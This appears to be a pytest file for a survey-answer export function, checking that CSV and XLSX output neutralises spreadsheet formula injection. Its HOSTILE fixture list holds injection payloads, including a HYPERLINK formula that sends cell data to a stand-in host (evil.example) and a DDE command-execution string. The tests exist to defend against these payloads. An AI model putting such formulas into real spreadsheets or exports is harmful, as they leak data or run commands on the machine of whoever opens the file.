"""`rembuk export`: the answers file is safe to open in a spreadsheet (no formula runs)."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd

from processor.render import FORMULA_START, write_answers_export
from processor.themes import scrub_texts

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
PLAIN = ["jalan rusak", "obat - sering habis", ""]


def _answers() -> pd.DataFrame:
    texts = HOSTILE + PLAIN
    return pd.DataFrame(
        {
            "answer_id": range(1, len(texts) + 1),
            "respondent": ["r-abc"] * len(texts),
            "source": ["-balai"] + ["kantor"] * (len(texts) - 1),
            "score": [-1.5] * len(texts),
            "text": texts,
        }
    )


def test_csv_cells_that_would_be_formulas_get_a_leading_quote(tmp_path: Path) -> None:
    path = write_answers_export(_answers(), tmp_path / "jawaban.csv", file_format="csv")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    texts = [row["text"] for row in rows]
    # The PII scrubbing comes first (it may replace "@SUM" as if it were a username).
    scrubbed = scrub_texts(pd.Series(HOSTILE)).tolist()
    assert (
        texts
        == ["'" + text if text.startswith(FORMULA_START) else text for text in scrubbed] + PLAIN
    )
    assert sum(text.startswith("'") for text in texts) >= len(HOSTILE) - 1
    assert rows[0]["source"] == "'-balai" and rows[1]["source"] == "kantor"
    assert {row["score"] for row in rows} == {"-1.5"}  # numbers are not text: left alone
    cells = [value for row in rows for key, value in row.items() if key != "score"]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


def test_xlsx_stores_hostile_text_as_text_never_a_formula(tmp_path: Path) -> None:
    path = write_answers_export(_answers(), tmp_path / "jawaban.xlsx", file_format="xlsx")
    sheet = openpyxl.load_workbook(path)["Jawaban"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [row[4] for row in sheet.iter_rows(min_row=2)]
    assert len(texts) == len(HOSTILE) + len(PLAIN)
    assert all(c.data_type == "s" for c in texts if c.value)
    assert texts[0].value == HOSTILE[0] and texts[1].value == "+1+2"  # kept verbatim
